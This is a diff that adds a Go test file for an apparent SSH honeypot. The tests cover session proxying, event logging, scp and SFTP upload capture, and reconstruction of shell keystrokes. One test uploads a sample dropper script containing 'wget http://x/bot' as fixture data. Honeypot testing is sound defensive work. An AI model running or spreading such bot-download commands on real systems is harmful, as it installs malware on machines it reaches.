@@ -0,0 +1,301 @@
+package ssh
+
+import (
+	"bufio"
+	"crypto/ed25519"
+	"crypto/rand"
+	"crypto/sha256"
+	"encoding/hex"
+	"fmt"
+	"io"
+	"net"
+	"os"
+	"potAgent/global"
+	"potAgent/logger"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"golang.org/x/crypto/ssh"
+)
+
+func testSigner(t *testing.T) ssh.Signer {
+	_, key, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	signer, err := ssh.NewSignerFromKey(key)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return signer
+}
+
+// 启动一个ssh服务器，每个session通道交给 handle 处理
+func serveSSH(t *testing.T, config *ssh.ServerConfig, handle func(ssh.NewChannel)) string {
+	config.AddHostKey(testSigner(t))
+	listen, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { listen.Close() })
+	go func() {
+		for {
+			conn, err := listen.Accept()
+			if err != nil {
+				return
+			}
+			go func() {
+				_, chans, reqs, err := ssh.NewServerConn(conn, config)
+				if err != nil {
+					return
+				}
+				go ssh.DiscardRequests(reqs)
+				for newChannel := range chans {
+					go handle(newChannel)
+				}
+			}()
+		}
+	}()
+	return listen.Addr().String()
+}
+
+// 后端的替身：exec 回显命令，scp -t 接收文件，shell 逐行回显
+func backendSession(newChannel ssh.NewChannel) {
+	channel, requests, err := newChannel.Accept()
+	if err != nil {
+		return
+	}
+	defer channel.Close()
+	for req := range requests {
+		switch req.Type {
+		case "exec":
+			req.Reply(true, nil)
+			command := PayloadDecoder(req.Payload).String()
+			if strings.HasPrefix(command, "scp -t") {
+				scpSink(channel)
+			} else {
+				fmt.Fprintf(channel, "ran: %s\n", command)
+			}
+			sendExitStatus(channel, 0)
+			return
+		case "shell":
+			req.Reply(true, nil)
+			br := bufio.NewReader(channel)
+			for {
+				line, err := br.ReadString('\n')
+				if err != nil || strings.TrimSpace(line) == "exit" {
+					sendExitStatus(channel, 0)
+					return
+				}
+				fmt.Fprintf(channel, "echo: %s", line)
+			}
+		default:
+			req.Reply(false, nil)
+		}
+	}
+}
+
+func scpSink(channel ssh.Channel) {
+	br := bufio.NewReader(channel)
+	channel.Write([]byte{0})
+	header, err := br.ReadString('\n')
+	if err != nil {
+		return
+	}
+	var mode string
+	var size int64
+	var name string
+	fmt.Sscanf(header, "C%s %d %s", &mode, &size, &name)
+	channel.Write([]byte{0})
+	io.CopyN(io.Discard, br, size+1)
+	channel.Write([]byte{0})
+}
+
+type eventCollector struct {
+	lock   sync.Mutex
+	events []map[string]interface{}
+}
+
+func (c *eventCollector) emit(eventType string, details map[string]interface{}) {
+	c.lock.Lock()
+	defer c.lock.Unlock()
+	details["event-type"] = eventType
+	c.events = append(c.events, details)
+}
+
+// 等待指定类型的事件出现
+func (c *eventCollector) wait(t *testing.T, eventType string, match func(map[string]interface{}) bool) map[string]interface{} {
+	t.Helper()
+	deadline := time.Now().Add(5 * time.Second)
+	for time.Now().Before(deadline) {
+		c.lock.Lock()
+		for _, e := range c.events {
+			if e["event-type"] == eventType && match(e) {
+				c.lock.Unlock()
+				return e
+			}
+		}
+		c.lock.Unlock()
+		time.Sleep(10 * time.Millisecond)
+	}
+	t.Fatalf("no %s event received", eventType)
+	return nil
+}
+
+func TestProxySession(t *testing.T) {
+	logger.InitLog("error")
+	global.DataDir = t.TempDir()
+	defer func() { global.DataDir = "" }()
+
+	backendAddr := serveSSH(t, &ssh.ServerConfig{
+		PasswordCallback: func(conn ssh.ConnMetadata, password []byte) (*ssh.Permissions, error) {
+			if conn.User() == "root" && string(password) == "toor" {
+				return nil, nil
+			}
+			return nil, fmt.Errorf("denied")
+		},
+	}, backendSession)
+
+	// 蜜罐一侧使用攻击者输入的凭据登录后端
+	collector := &eventCollector{}
+	honeypotAddr := serveSSH(t, &ssh.ServerConfig{
+		PasswordCallback: func(conn ssh.ConnMetadata, password []byte) (*ssh.Permissions, error) {
+			return passwordPermissions(string(password)), nil
+		},
+	}, func(newChannel ssh.NewChannel) {
+		backend, err := dialBackend(proxyConfig{Address: backendAddr}, "root", "toor")
+		if err != nil {
+			newChannel.Reject(ssh.ConnectionFailed, err.Error())
+			return
+		}
+		defer backend.Close()
+		proxySessionChannel(newChannel, backend, collector.emit)
+	})
+
+	client, err := ssh.Dial("tcp", honeypotAddr, &ssh.ClientConfig{
+		User:            "root",
+		Auth:            []ssh.AuthMethod{ssh.Password("toor")},
+		HostKeyCallback: ssh.InsecureIgnoreHostKey(),
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer client.Close()
+
+	// exec
+	session, err := client.NewSession()
+	if err != nil {
+		t.Fatal(err)
+	}
+	out, err := session.Output("uname -a")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if string(out) != "ran: uname -a\n" {
+		t.Errorf("unexpected exec output %q", out)
+	}
+	collector.wait(t, "ssh-exec", func(e map[string]interface{}) bool { return e["ssh.exec"] == "uname -a" })
+	collector.wait(t, "ssh-proxy-session", func(e map[string]interface{}) bool {
+		return e["ssh.proxy.command"] == "uname -a" && e["ssh.proxy.exit-code"] == uint32(0)
+	})
+
+	// scp 上传
+	content := "#!/bin/sh\nwget http://x/bot\n"
+	session, _ = client.NewSession()
+	stdin, _ := session.StdinPipe()
+	if err := session.Start("scp -t /tmp"); err != nil {
+		t.Fatal(err)
+	}
+	fmt.Fprintf(stdin, "C0755 %d bot.sh\n%s\x00", len(content), content)
+	stdin.Close()
+	if err := session.Wait(); err != nil {
+		t.Fatal(err)
+	}
+	sum := sha256.Sum256([]byte(content))
+	upload := collector.wait(t, "ssh-file-upload", func(e map[string]interface{}) bool { return e["ssh.file.name"] == "bot.sh" })
+	if upload["ssh.file.sha256"] != hex.EncodeToString(sum[:]) || upload["ssh.file.size"] != int64(len(content)) {
+		t.Errorf("unexpected upload event %v", upload)
+	}
+	if data, err := os.ReadFile(upload["ssh.file.path"].(string)); err != nil || string(data) != content {
+		t.Errorf("artifact not saved: %v", err)
+	}
+
+	// shell 按键还原为命令行
+	session, _ = client.NewSession()
+	session.Stdin = strings.NewReader("whoamx\x7fi\nexit\n")
+	var stdout strings.Builder
+	session.Stdout = &stdout
+	if err := session.Shell(); err != nil {
+		t.Fatal(err)
+	}
+	session.Wait()
+	if stdout.String() != "echo: whoamx\x7fi\n" {
+		t.Errorf("unexpected shell output %q", stdout.String())
+	}
+	collector.wait(t, "ssh-shell", func(e map[string]interface{}) bool { return e["ssh.shell"] == "whoami" })
+}
+
+func sftpPacket(typ byte, fields ...interface{}) []byte {
+	body := []byte{typ}
+	for _, f := range fields {
+		switch v := f.(type) {
+		case uint32:
+			body = append(body, ssh.Marshal(struct{ V uint32 }{v})...)
+		case uint64:
+			body = append(body, ssh.Marshal(struct{ V uint64 }{v})...)
+		case string:
+			body = append(body, ssh.Marshal(struct{ V string }{v})...)
+		}
+	}
+	return append(ssh.Marshal(struct{ V uint32 }{uint32(len(body))}), body...)
+}
+
+func TestSFTPParser(t *testing.T) {
+	logger.InitLog("error")
+	collector := &eventCollector{}
+	p := newSFTPParser(collector.emit)
+
+	// 数据包被拆分成多段到达
+	open := sftpPacket(sftpOpen, uint32(1), "/tmp/x.bin", uint32(0x1a), uint32(0))
+	p.feedRequest(open[:7])
+	p.feedRequest(open[7:])
+	p.feedResponse(sftpPacket(sftpHandle, uint32(1), "h1"))
+	p.feedRequest(sftpPacket(sftpWrite, uint32(2), "h1", uint64(0), "abc"))
+	p.feedRequest(sftpPacket(sftpClose, uint32(3), "h1"))
+
+	sum := sha256.Sum256([]byte("abc"))
+	e := collector.wait(t, "ssh-file-upload", func(e map[string]interface{}) bool { return true })
+	if e["ssh.file.name"] != "/tmp/x.bin" || e["ssh.file.sha256"] != hex.EncodeToString(sum[:]) {
+		t.Errorf("unexpected event %v", e)
+	}
+}
+
+func TestProxyPublicKeySession(t *testing.T) {
+	logger.InitLog("error")
+	collector := captureEvents(t)
+	var dialed atomic.Bool
+	backendAddr := serveSSH(t, &ssh.ServerConfig{
+		PasswordCallback: func(conn ssh.ConnMetadata, password []byte) (*ssh.Permissions, error) {
+			dialed.Store(true)
+			return nil, fmt.Errorf("denied")
+		},
+	}, backendSession)
+	addr := serveHoneypot(t, sshConfig{
+		Proxy:     proxyConfig{Enable: true, Address: backendAddr},
+		PublicKey: publicKeyConfig{AcceptTypes: []string{"*"}},
+	})
+
+	// 公钥认证的会话没有密码可以转发，不连接后端
+	client, err := dialHoneypot(addr, "root", ssh.PublicKeys(testSigner(t)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer client.Close()
+	e := collector.wait(t, "ssh-proxy-connect", func(e map[string]interface{}) bool { return true })
+	if e["ssh.proxy.skipped"] != "publickey" || e["error"] != nil || dialed.Load() {
+		t.Errorf("unexpected proxy event %v", e)
+	}
+}